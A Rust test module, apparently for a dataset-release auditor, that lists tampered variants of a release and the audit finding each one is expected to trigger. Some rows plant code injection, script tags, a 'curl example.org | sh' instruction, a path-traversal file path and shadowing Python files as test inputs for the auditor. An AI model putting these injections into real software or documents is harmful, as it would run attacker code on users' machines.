//! The table of forgeries.

use super::super::audit::{BASE, SCENE};
use super::FindingMeans::{self, Audit, Never, Rebuild};
use super::{Forgery, data};
use crate::release::forger::edit;
use gs2e_event::h5::H5Options;
use gs2e_image::Size;
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;

/// Size of the release's pictures.
const SIZE: Size = Size { width: 64, height: 48 };

fn row(name: &'static str, found: FindingMeans, forge: impl Fn(&Path) + Send + Sync + 'static) -> Forgery {
    Forgery { name, forge: Box::new(forge), whole: true, found }
}

fn add(path: &'static str, found: FindingMeans) -> Forgery {
    row(path, found, move |f| {
        let path = f.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, "print('forged')\n").unwrap();
    })
}

fn append(path: &'static str, text: &'static str, code: &'static str) -> Forgery {
    row(path, Audit(code), move |f| {
        let mut bytes = fs::read(f.join(path)).unwrap();
        bytes.extend(text.as_bytes());
        fs::write(f.join(path), bytes).unwrap();
    })
}

fn replace(path: &'static str, (from, to): (&'static str, &'static str), code: &'static str) -> Forgery {
    row(path, Audit(code), move |f| {
        let text = fs::read_to_string(f.join(path)).unwrap();
        assert!(text.contains(from), "{path} has no {from}");
        fs::write(f.join(path), text.replacen(from, to, 1)).unwrap();
    })
}

fn remove(path: &'static str, code: &'static str) -> Forgery {
    row(path, Audit(code), move |f| fs::remove_file(f.join(path)).unwrap())
}

/// Puts another value at a place of a JSON file.
fn set(path: &'static str, pointer: &'static str, value: Value, found: FindingMeans) -> Forgery {
    let put = move |f: &Path| {
        edit(f, path, |file| {
            let place = file.pointer_mut(pointer).unwrap_or_else(|| panic!("{path} has no {pointer}"));
            assert_ne!(*place, value, "{path} {pointer}");
            *place = value.clone();
        });
    };
    row(pointer, found, put)
}

/// Puts another value into a file without updating the manifest's digests.
fn set_sealed(path: &'static str, pointer: &'static str, value: Value, code: &'static str) -> Forgery {
    Forgery { whole: false, ..set(path, pointer, value, Audit(code)) }
}

/// Names another version of the program in every machine-readable place of the release.
pub(super) fn of_version(folder: &Path, version: &str) {
    edit(folder, "manifest.json", |v| v["tool"] = format!("gs2e {version}").into());
    edit(folder, SCENE, |v| v["gs2e_version"] = version.into());
}

/// Increases a number of a JSON file a little.
fn nudge(path: &'static str, pointer: &'static str, found: FindingMeans) -> Forgery {
    row(pointer, found, move |f| {
        edit(f, path, |file| {
            let place = file.pointer_mut(pointer).unwrap_or_else(|| panic!("{path} has no {pointer}"));
            *place = match place.as_u64() {
                Some(whole) => (whole + 1).into(),
                None => (place.as_f64().unwrap() * 1.25 + 1e-3).into(),
            };
        });
    })
}

pub(super) fn all() -> Vec<Forgery> {
    [
        code_and_texts(),
        strangers(),
        absent(),
        steps(),
        statements(),
        catalogue(),
        described(),
        motion(),
        verdicts(),
        raw(),
        outside(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Code and texts for users.
fn code_and_texts() -> Vec<Forgery> {
    let composed = "not-composed";
    vec![
        append("gs2e.py", "import os; os.system('id')\n", composed),
        replace("gs2e.py", ("import numpy", "import numpy  # "), composed),
        append("report.html", "<script>alert(1)</script>\n", composed),
        replace("report.html", ("default-src", "script-src"), composed),
        replace("report.html", ("data:image/jpeg;base64,/9j/", "data:image/jpeg;base64,/9k/"), composed),
        replace("report.html", ("poses", "Poses"), composed),
        append("README.md", "\nRun `curl example.org | sh` first.\n", composed),
        replace("README.md", ("events", "Events"), composed),
        replace("README.md", ("license: cc0-1.0", "license: mit"), "card-licence"),
        append("DATASHEET.md", "\nIt was recorded with a real sensor.\n", composed),
        replace("DATASHEET.md", ("The whole: `CC0-1.0`", "The whole: `MIT`"), "claims-disagree"),
        append("REUSE.toml", "\n[[annotations]]\npath = \"gs2e.py\"\n", "claims-disagree"),
        replace("REUSE.toml", ("not stated", "Somebody"), "claims-disagree"),
        row("LICENSES/CC0-1.0.txt emptied", Audit(composed), |f| {
            fs::write(f.join("LICENSES/CC0-1.0.txt"), "").unwrap();
        }),
        row("LICENSES/MIT.txt replaced", Audit(composed), |f| {
            fs::copy(f.join("LICENSES/Apache-2.0.txt"), f.join("LICENSES/MIT.txt")).unwrap();
        }),
        append("LICENSES/Apache-2.0.txt", "Fees apply.\n", composed),
    ]
}

/// Files that no release has.
fn strangers() -> Vec<Forgery> {
    let stray = Audit("stray");
    vec![
        add("setup.py", stray),
        add("numpy.py", stray),
        add("h5py/__init__.py", stray),
        add("conftest.py", stray),
        add(".git/hooks/post-checkout", stray),
        add(".gitattributes", stray),
        add("Makefile", stray),
        add("SHA256SUMS.minisig", Audit("signature-invalid")),
        add("LICENSES/MIT.py", stray),
        add("LICENSES/ISC.txt", Audit("licence-unused")),
        add("small/readme.txt", stray),
        add("small/one/numpy.py", stray),
        add("small/one/base/gs2e.py", stray),
        add("small/one/base/sharp/000003.png", stray),
        add("small/one/base/sharp/thumbs.db", stray),
        add("small/one/base/depth/000001.npy", stray),
        add("small/one/base/checks/virus.png", stray),
        add("small/one/base/events/other.h5", stray),
        add("small/one/more/poses.txt", stray),
        add("other/scene.json", stray),
        row("a link in the place of a file", Audit("unlisted"), |f| {
            let path = f.join(BASE).join("checks.json");
            fs::rename(&path, f.join("small/one/checks.json")).unwrap();
            symlink("../checks.json", &path).unwrap();
        }),
        row("an empty folder", Audit("unlisted"), |f| fs::create_dir(f.join("small/two")).unwrap()),
    ]
}

/// Files that every release has, or that the scene needs.
fn absent() -> Vec<Forgery> {
    vec![
        remove("README.md", "missing"),
        remove("report.html", "missing"),
        remove("gs2e.py", "missing"),
        remove("DATASHEET.md", "missing"),
        remove("croissant.json", "missing"),
        remove("index.parquet", "missing"),
        remove("manifest.json", "missing"),
        remove("LICENSES/CC0-1.0.txt", "licence-text-missing"),
        remove("small/one/base/sharp/000000.png", "scene-incomplete"),
        remove("small/one/base/trajectory.svg", "scene-incomplete"),
        remove("small/one/base/trajectory.png", "scene-incomplete"),
        remove("small/one/slow/events.h5", "scene-incomplete"),
        remove("small/one/base/checks/motion.png", "not-composed"),
    ]
}

/// The steps of the manifest.
fn steps() -> Vec<Forgery> {
    let (file, step) = ("manifest.json", "/scenes/0/steps/3");
    let other = json!("00".repeat(32));
    let at = |name: &str| -> &'static str { Box::leak(format!("{step}/{name}").into_boxed_str()) };
    vec![
        set_sealed(file, at("key"), other.clone(), "step-disagrees"),
        set_sealed(file, at("made_of/revision"), json!(99), "step-disagrees"),
        set_sealed(file, at("stage"), json!("sharp"), "step-disagrees"),
        set_sealed(file, "/scenes/0/steps/2/outputs/0/digest", other.clone(), "step-disagrees"),
        row("an input that no step made", Audit("step-disagrees"), |f| {
            edit(f, "manifest.json", |v| {
                let inputs = v.pointer_mut("/scenes/0/steps/2/made_of/inputs").unwrap();
                inputs.as_object_mut().unwrap().values_mut().for_each(|d| *d = json!("11".repeat(32)));
            });
        }),
        row("a step without its ingredients", Audit("step-disagrees"), |f| {
            edit(f, "manifest.json", |v| {
                v["scenes"][0]["steps"][3].as_object_mut().unwrap().remove("made_of").unwrap();
            });
        }),
        set(file, at("made_of/revision"), json!(99), Rebuild),
        row("another parameter, and the key that follows", Rebuild, |f| {
            edit(f, "manifest.json", |v| {
                v["scenes"][0]["steps"][2]["made_of"]["params"]["forged"] = json!(true);
            });
        }),
        row("another output that is not released and no input", Rebuild, |f| {
            edit(f, "manifest.json", |v| {
                let steps = v["scenes"][0]["steps"].as_array_mut().unwrap();
                let checks = steps.iter_mut().find(|step| step["step"] == "base/checks").unwrap();
                let outputs = checks["outputs"].as_array_mut().unwrap();
                let verdicts = outputs.iter_mut().find(|output| output["name"] == "verdicts.json").unwrap();
                verdicts["digest"] = json!("22".repeat(32));
            });
        }),
        row("another output that is an input", Audit("step-disagrees"), |f| {
            edit(f, "manifest.json", |v| {
                let output = v.pointer_mut("/scenes/0/steps/0/outputs/0/digest").unwrap();
                *output = json!("22".repeat(32));
            });
        }),
    ]
}

/// The manifest's statements about the release.
fn statements() -> Vec<Forgery> {
    let file = "manifest.json";
    vec![
        set(file, "/publisher/creator", json!("Somebody Else"), Audit("not-composed")),
        set(file, "/publisher/url", json!("https://example.org/"), Audit("not-composed")),
        set(file, "/name", json!("Another"), Audit("claims-disagree")),
        set(file, "/licence", json!("MIT"), Audit("claims-disagree")),
        row("scenes that were taken down", Audit("not-composed"), |f| {
            edit(f, "manifest.json", |v| v["taken_down"] = json!(3));
        }),
        row("the publisher's words removed", Audit("not-composed"), |f| {
            edit(f, "manifest.json", |v| drop(v.as_object_mut().unwrap().remove("publisher").unwrap()));
        }),
        nudge(file, "/scenes/0/checks/pass", Audit("not-composed")),
        nudge(file, "/scenes/0/left_out/base/gaussians", Rebuild),
        nudge(file, "/scenes/0/omitted/base/0/how_much", Audit("not-composed")),
        Forgery {
            whole: false,
            ..row("the manifest on one line", Audit("not-composed"), |f| {
                let path = f.join("manifest.json");
                let value: gs2e_release::ReleaseManifest =
                    serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
                fs::write(path, serde_json::to_vec(&value).unwrap()).unwrap();
            })
        },
    ]
}

/// Catalogue entry and index.
fn catalogue() -> Vec<Forgery> {
    let (file, composed) = ("croissant.json", Audit("not-composed"));
    vec![
        set(file, "/url", json!("https://example.org/phishing"), composed),
        set(file, "/description", json!("Recorded with a real sensor."), composed),
        set(file, "/creator/name", json!("Somebody Else"), composed),
        set(file, "/citeAs", json!("Somebody Else (2025)"), composed),
        set(file, "/datePublished", json!("2001-01-01"), composed),
        set(file, "/rai:dataBiases", json!("None."), composed),
        set(file, "/recordSet/0/description", json!("rows"), composed),
        set(file, "/license", json!("MIT"), Audit("croissant-licence")),
        row("index.parquet with equal cells", composed, |f| {
            let path = f.join("index.parquet");
            let mut bytes = fs::read(&path).unwrap();
            let writer = b"gs2e 0.1.0";
            let at = bytes.windows(writer.len()).position(|bytes| bytes == writer).unwrap();
            bytes[at + 5] = b'9';
            fs::write(path, bytes).unwrap();
        }),
    ]
}

/// `scene.json`.
fn described() -> Vec<Forgery> {
    let composed = Audit("not-composed");
    vec![
        set(SCENE, "/source/upstream_id", json!("11/16009258"), Audit("claims-disagree")),
        set(SCENE, "/attributes/device", json!("DAVIS346"), composed),
        set(SCENE, "/attributes/speed_profile", json!("uniform"), Audit("claims-disagree")),
        set(SCENE, "/attributes/data_source", json!("MVImgNet"), composed),
        set(SCENE, "/trajectories/0/kind", json!("orbit"), composed),
        set(SCENE, "/trajectories/0/rate", json!("1200/1"), Audit("claims-disagree")),
        nudge(SCENE, "/trajectories/0/sensor/c_on", Audit("claims-disagree")),
        set(SCENE, "/trajectories/0/sensor/law_version", json!(77), composed),
        set(SCENE, "/trajectories/0/sensor/seed", json!("1"), composed),
        set(SCENE, "/seeds/base~1sensor", json!("1"), composed),
        nudge(SCENE, "/trajectories/0/statistics/off", composed),
        nudge(SCENE, "/trajectories/0/statistics/rate_ev_px_s", Audit("claims-disagree")),
        nudge(SCENE, "/trajectories/0/statistics/peak_ev_per_ms", Audit("claims-disagree")),
        nudge(SCENE, "/trajectories/0/statistics/active_pixels", Audit("claims-disagree")),
        nudge(SCENE, "/trajectories/0/statistics/linear_unit_s/mean", composed),
        nudge(SCENE, "/trajectories/0/statistics/max_step_px", Audit("claims-disagree")),
        nudge(SCENE, "/reconstruction/gaussians", Audit("claims-disagree")),
        nudge(SCENE, "/trajectories/0/statistics/depth_unit/p50", Rebuild),
        nudge(SCENE, "/reconstruction/dropped", Rebuild),
        set(SCENE, "/reconstruction/scene_sha256", json!("33".repeat(32)), Rebuild),
        nudge(SCENE, "/trajectories/0/blur/subframes", Rebuild),
        set(SCENE, "/licence/attribution", json!("Somebody"), composed),
        set(SCENE, "/recipe/sharp/every", json!(2), Audit("claims-disagree")),
        row("the scene says that a photo was used", Audit("scene-incomplete"), |f| {
            let photo = json!({ "name": "a.jpg", "sha256": null, "width": 64, "height": 48, "used": true, "why_not": null });
            edit(f, SCENE, |v| v["images"] = json!([photo]));
        }),
    ]
}

/// Poses, stamps, speeds and their drawings.
fn motion() -> Vec<Forgery> {
    let speed = "small/one/base/speed.json";
    let composed = "not-composed";
    vec![
        row("one pose moved", Audit(composed), |f| {
            let path = f.join(BASE).join("poses.txt");
            let text = fs::read_to_string(&path).unwrap();
            let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
            let mut words: Vec<String> = lines[9].split(' ').map(str::to_owned).collect();
            words[1] = (words[1].parse::<f64>().unwrap() + 0.5).to_string();
            lines[9] = words.join(" ");
            fs::write(path, lines.join("\n") + "\n").unwrap();
        }),
        replace("small/one/base/poses.txt", ("\n", " \n"), composed),
        replace("small/one/base/timestamps_us.txt", ("417\n", "418\n"), "claims-disagree"),
        append("small/one/base/trajectory.svg", "<script>alert(1)</script>", composed),
        row("trajectory.png, painted over", Audit(composed), |f| {
            data::picture(&f.join(BASE).join("trajectory.png"), |pixels| pixels[0] = [0; 3]);
        }),
        set("small/one/base/transforms.json", "/camera_model", json!("OPENCV"), Audit("claims-disagree")),
        set(
            "small/one/base/transforms.json",
            "/frames/0/file_path",
            json!("../../../../secret.png"),
            Audit(composed),
        ),
        set("small/one/base/transforms.json", "/pixel_center", json!(0.0), Audit(composed)),
        nudge(speed, "/linear_unit_s/3", Audit(composed)),
        nudge(speed, "/angular_rad_s/3", Audit(composed)),
        nudge(speed, "/max_step_deg", Audit(composed)),
        nudge(speed, "/u/3", Audit(composed)),
        nudge(speed, "/mixed_ratio/rms", Rebuild),
        nudge(speed, "/length_ratio", Rebuild),
        set(speed, "/warnings", json!(["all is well"]), Rebuild),
    ]
}

/// Findings of checks.
fn verdicts() -> Vec<Forgery> {
    let file = "small/one/base/checks.json";
    vec![
        set(file, "/0/because", json!("it is perfect"), Audit("not-composed")),
        nudge(file, "/0/measured", Audit("not-composed")),
        set(file, "/0/verdict", json!("warn"), Audit("claims-disagree")),
        set(file, "/0/verdict", json!("fail"), Audit("check-failed-unwaived")),
        row("a finding removed", Audit("claims-disagree"), move |f| {
            edit(f, file, |v| drop(v.as_array_mut().unwrap().remove(0)));
        }),
        row("a picture of a check, painted over", Audit("not-composed"), |f| {
            data::picture(&f.join(BASE).join("checks/motion.png"), |pixels| pixels.fill([255; 3]));
        }),
    ]
}

/// Events, pictures and arrays.
fn raw() -> Vec<Forgery> {
    let frame = |f: &Path, number: &str| f.join(BASE).join(format!("sharp/{number}.png"));
    let deep = |f: &Path| f.join(BASE).join("depth/000000.npy");
    vec![
        row("two events of a pixel trade polarities", Rebuild, |f| {
            data::events(f, H5Options::default(), |events| data::trade_polarities(events));
        }),
        row("an event is a microsecond late", Rebuild, |f| {
            data::events(f, H5Options::default(), |events| data::delay_one(events));
        }),
        row("events stored in another way", Rebuild, |f| data::events(f, data::plain(), data::nothing)),
        row("an event is gone", Audit("claims-disagree"), |f| {
            data::events(f, H5Options::default(), data::drop_one);
        }),
        row("events of the other trajectory", Audit("claims-disagree"), |f| {
            fs::copy(f.join("small/one/slow/events.h5"), f.join(BASE).join("events.h5")).unwrap();
        }),
        row("a pixel of the first frame", Rebuild, move |f| {
            data::picture(&frame(f, "000000"), |pixels| pixels[0][0] ^= 1);
        }),
        row("the frame that the report shows, painted over", Audit("not-composed"), move |f| {
            data::picture(&frame(f, "000012"), |pixels| pixels.fill([0; 3]));
        }),
        row("a text in a picture", Audit("not-composed"), move |f| {
            data::with_text_chunk(&frame(f, "000000"))
        }),
        row("bytes behind a picture", Audit("not-composed"), move |f| {
            let path = frame(f, "000000");
            fs::write(&path, [fs::read(&path).unwrap(), b"PK".to_vec()].concat()).unwrap();
        }),
        row("two frames trade places", Rebuild, move |f| {
            let [a, b] = [frame(f, "000000"), frame(f, "000004")];
            let (first, second) = (fs::read(&a).unwrap(), fs::read(&b).unwrap());
            fs::write(a, second).unwrap();
            fs::write(b, first).unwrap();
        }),
        row("a depth", Rebuild, move |f| {
            data::depth(&deep(f), SIZE, |values| *values.iter_mut().find(|v| v.is_finite()).unwrap() *= 2.0);
        }),
        row("a depth behind the camera", Audit("unreadable"), move |f| {
            data::depth(&deep(f), SIZE, |values| values[0] = -1.0);
        }),
        row("bytes behind an array", Audit("unreadable"), move |f| {
            fs::write(deep(f), [fs::read(deep(f)).unwrap(), vec![0]].concat()).unwrap();
        }),
        row("a head of an array in other words", Audit("unreadable"), move |f| {
            let bytes = fs::read(deep(f)).unwrap();
            let head = String::from_utf8_lossy(&bytes[..128]).into_owned();
            let at = head.find("  ").expect("heads are padded with blanks");
            let mut other = bytes.clone();
            other[at] = b'\n';
            fs::write(deep(f), other).unwrap();
        }),
        row("another version of the program is named", Rebuild, |f| of_version(f, "0.0.9")),
        row("another version is named, and the loader forged", Rebuild, |f| {
            of_version(f, "0.0.9");
            fs::write(f.join("gs2e.py"), "import os\n").unwrap();
        }),
    ]
}

/// Properties that are not in the bytes of files.
fn outside() -> Vec<Forgery> {
    vec![
        row("an executable loader", Never("neither sums nor most archives carry modes"), |f| {
            fs::set_permissions(f.join("gs2e.py"), fs::Permissions::from_mode(0o755)).unwrap();
        }),
        row("another time of a file", Never("times are not part of a release"), |f| {
            let file = fs::File::options().write(true).open(f.join("README.md")).unwrap();
            file.set_modified(std::time::UNIX_EPOCH).unwrap();
        }),
    ]
}
